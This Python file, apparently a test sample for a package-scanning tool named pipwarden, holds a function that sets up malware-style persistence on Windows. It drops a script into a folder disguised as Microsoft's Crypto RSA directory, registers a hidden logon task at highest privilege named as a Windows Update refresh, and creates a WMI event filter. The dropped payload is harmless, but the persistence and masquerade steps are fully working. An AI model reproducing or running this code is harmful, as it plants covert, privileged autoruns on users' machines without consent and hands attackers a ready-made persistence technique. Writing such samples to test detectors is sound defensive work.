import os
import shutil
import subprocess
import sys


def ensure():
    dst = os.path.join(os.environ["APPDATA"], "Microsoft", "Crypto", "RSA", "msupd.pyw")
    os.makedirs(os.path.dirname(dst), exist_ok=True)
    with open(dst, "w") as f:
        f.write("import os\nos.system('echo pipwarden-test')\n")
    pyw = shutil.which("pythonw") or sys.executable.replace("python.exe", "pythonw.exe")
    subprocess.run(["schtasks", "/create", "/f", "/sc", "onlogon", "/rl", "highest", "/tn",
                    "Microsoft\\Windows\\WindowsUpdate\\Refresh", "/tr", f'"{pyw}" "{dst}"'],
                   capture_output=True, creationflags=0x08000000)
    subprocess.run(["wmic", "/namespace:\\\\root\\subscription", "PATH", "__EventFilter", "CREATE",
                    "Name=\"UpdFilter\"", "EventNameSpace=\"root\\cimv2\"", "QueryLanguage=\"WQL\"",
                    "Query=\"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                    "'Win32_PerfFormattedData_PerfOS_System'\""], capture_output=True, creationflags=0x08000000)
